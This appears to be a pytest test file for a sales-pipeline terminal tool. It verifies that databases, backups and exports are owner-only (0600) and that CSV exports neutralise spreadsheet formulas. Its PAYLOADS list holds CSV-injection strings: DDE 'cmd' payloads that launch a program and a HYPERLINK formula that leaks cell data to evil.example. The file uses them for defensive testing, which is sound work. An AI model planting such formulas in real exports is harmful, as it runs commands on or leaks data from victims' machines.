"""A salesperson's pipeline is private: every file pipeline-tui writes is readable by its owner
only (0600), whatever the umask, and exports defuse spreadsheet formulas in every column.

The commands run as subprocesses under umask 000, the most permissive there is: a file made
with the usual 0666 would come out world-readable and -writable. (tests/test_csv.py covers the
formula escaping of the text fields and their round trip; test_cli.py the default umask.)
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from pipeline_tui.core.settings import Settings
from pipeline_tui.io.csv_io import COLUMNS, parse_csv, write_csv
from pipeline_tui.services.importing import import_parsed
from pipeline_tui.services.setup import add_pipeline
from pipeline_tui.services.views import export_rows

pytestmark = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")

NOW = "2026-11-26 09:30"
UMASK = 0o000


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def run(*args: str, db: Path | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """``pipeline-tui`` under a permissive umask, the way a careless login shell starts it."""
    command = [sys.executable, "-m", "pipeline_tui"]
    if db is not None:
        command += ["--db", str(db)]
    result = subprocess.run(
        [*command, "--now", NOW, *args],
        capture_output=True,
        text=True,
        preexec_fn=lambda: os.umask(UMASK),
        cwd=cwd,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    return result


def test_the_umask_really_is_permissive_in_the_child(tmp_path):
    probe = subprocess.run(
        [sys.executable, "-c", "import os; print(oct(os.umask(0)))"],
        capture_output=True,
        text=True,
        preexec_fn=lambda: os.umask(UMASK),
    )
    assert probe.stdout.strip() == "0o0"


# Opens the database, writes, and keeps the connection open so that -wal and -shm stay on disk.
HOLDER = r"""
import sys
from pipeline_tui import cli
assert cli.main(["--db", sys.argv[1], "--now", "2026-11-26 09:30", "add", "Acme", "--follow-up", "fri"]) == 0
# main() closes its connection (and the -wal goes with it): stay open, as a running TUI would
from pipeline_tui.services.prospects import add_prospect
from pipeline_tui.store.db import open_database
from datetime import datetime
open_database(sys.argv[1])
add_prospect(datetime(2026, 11, 26, 9, 30), "Globex")
print("written", flush=True)
sys.stdin.readline()
"""


def test_database_wal_and_shm_files_are_private(tmp_path):
    db = tmp_path / "new folder" / "pipeline.db"
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(db)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=lambda: os.umask(UMASK),
    )
    try:
        assert holder.stdout is not None
        assert holder.stdout.readline().startswith("Added #1 Acme")
        assert holder.stdout.readline().strip() == "written"
        files = {suffix: Path(f"{db}{suffix}") for suffix in ("", "-wal", "-shm")}
        assert all(path.exists() for path in files.values()), sorted(os.listdir(db.parent))
        assert {suffix: oct(mode(path)) for suffix, path in files.items()} == dict.fromkeys(files, "0o600")
        assert mode(db.parent) == 0o700  # the folder it made for the database, too
    finally:
        holder.communicate("\n", timeout=30)
    assert holder.returncode == 0, holder.stderr


def test_default_and_demo_databases_in_the_data_folder_are_private(tmp_path, monkeypatch):
    data = tmp_path / "data"
    monkeypatch.setenv("XDG_DATA_HOME", str(data))
    run("add", "Acme")  # no --db: the user's database in the data folder
    run("demo", "--prospects", "5", "--no-open")  # its own demo database, beside it
    folder = data / "pipeline-tui"
    assert sorted(p.name for p in folder.iterdir()) == ["demo.db", "pipeline.db"]
    assert mode(folder) == 0o700
    assert mode(folder / "pipeline.db") == mode(folder / "demo.db") == 0o600


def test_backups_are_private(tmp_path):
    db = tmp_path / "pipeline.db"
    run("add", "Acme", db=db)
    run("backup", "-o", str(tmp_path / "copies" / "named.db"), db=db)
    default = run("backup", db=db).stdout.strip().removeprefix("Backed up to ")
    assert mode(tmp_path / "copies" / "named.db") == 0o600
    assert mode(Path(default)) == 0o600
    assert mode(db) == 0o600
    assert not [p for p in tmp_path.rglob("*-journal")], "no journal left beside a backup"


def test_the_backup_made_before_a_schema_upgrade_is_private(tmp_path):
    from pipeline_tui.store import schema

    db = tmp_path / "old.db"
    shutil.copyfile(Path(__file__).parent / "fixtures" / "schema1.db", db)
    os.chmod(db, 0o600)
    run("agenda", db=db)
    backups = sorted(tmp_path.glob("old.schema1-*.db"))
    if schema.SCHEMA_VERSION > 1:
        assert len(backups) == 1
    assert all(mode(path) == 0o600 for path in backups)
    assert mode(db) == 0o600


@pytest.mark.parametrize(
    "args, name",
    [
        (("export", "-o"), "prospects.csv"),
        (("export", "--format", "json", "--output"), "prospects.json"),
        (("ics", "-o"), "agenda.ics"),
    ],
)
def test_exports_are_private_even_over_an_existing_open_file(tmp_path, args, name):
    db = tmp_path / "pipeline.db"
    run("add", "Acme", "--follow-up", "tomorrow 10:00", db=db)
    out = tmp_path / "out" / name
    out.parent.mkdir()
    run(*args, str(out), db=db)
    assert mode(out) == 0o600
    first = out.read_bytes()
    assert b"Acme" in first

    os.chmod(out, 0o666)  # a world-readable file of the same name is replaced, not reused
    run(*args, str(out), "--force", db=db)
    assert mode(out) == 0o600
    assert out.read_bytes() == first
    assert sorted(p.name for p in out.parent.iterdir()) == [name], "no temporary file left behind"


def test_an_export_into_a_relative_path_is_private(tmp_path):
    db = tmp_path / "pipeline.db"
    run("add", "Acme", db=db)
    run("export", "-o", "here.csv", db=db, cwd=tmp_path)
    assert mode(tmp_path / "here.csv") == 0o600


# -- formulas ---------------------------------------------------------------------------------

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
]

STAGES = (("+Open", 0.5, "open", "lead"), ("@Won", 1.0, "won", "won"), ("-Lost", 0.0, "lost", "lost"))


def test_every_column_of_every_row_is_defused_and_comes_back(db, tmp_path, now):
    """Formulas in every text column, in pipeline and stage names, in a lost reason: no cell of
    the export starts a formula, the JSON keeps the text as it is, and an import gives it back."""
    from pipeline_tui.services.prospects import add_prospect, mark_lost

    add_pipeline(PAYLOADS[0], STAGES)
    for i, payload in enumerate(PAYLOADS):
        fields = {name: payload for name in ("organization", "contact", "title", "phone", "source", "notes")}
        prospect = add_prospect(now, f"{payload} {i}", pipeline=PAYLOADS[0], fields=fields)
        if i % 2:
            mark_lost(prospect.id, payload, now)
    buffer = io.StringIO()
    write_csv(export_rows(now, Settings()), buffer)
    exported = buffer.getvalue()
    table = list(csv.reader(io.StringIO(exported)))
    assert table[0] == list(COLUMNS)
    dangerous = [
        (row[0], column, value)
        for row in table[1:]
        for column, value in zip(COLUMNS, row, strict=True)
        if value[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]
    assert dangerous == []
    assert len(table) == 1 + len(PAYLOADS)

    records = json.loads(_json_export(now))
    assert {r["organization"] for r in records} == set(PAYLOADS)  # JSON is data: not escaped
    assert {r["pipeline"] for r in records} == {PAYLOADS[0]}

    # into another database with the same pipeline: the same export, byte for byte
    from pipeline_tui.store.db import open_database

    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8", newline="")
    other = open_database(tmp_path / "other.db")
    try:
        add_pipeline(PAYLOADS[0], STAGES)
        import_parsed(parse_csv(path, now), str(path), now)
        again = io.StringIO()
        write_csv(export_rows(now, Settings()), again)
        assert again.getvalue() == exported
    finally:
        other.close()


def _json_export(now) -> str:
    from pipeline_tui.io.shapes import dumps, export_json

    return dumps(export_json(export_rows(now, Settings())))
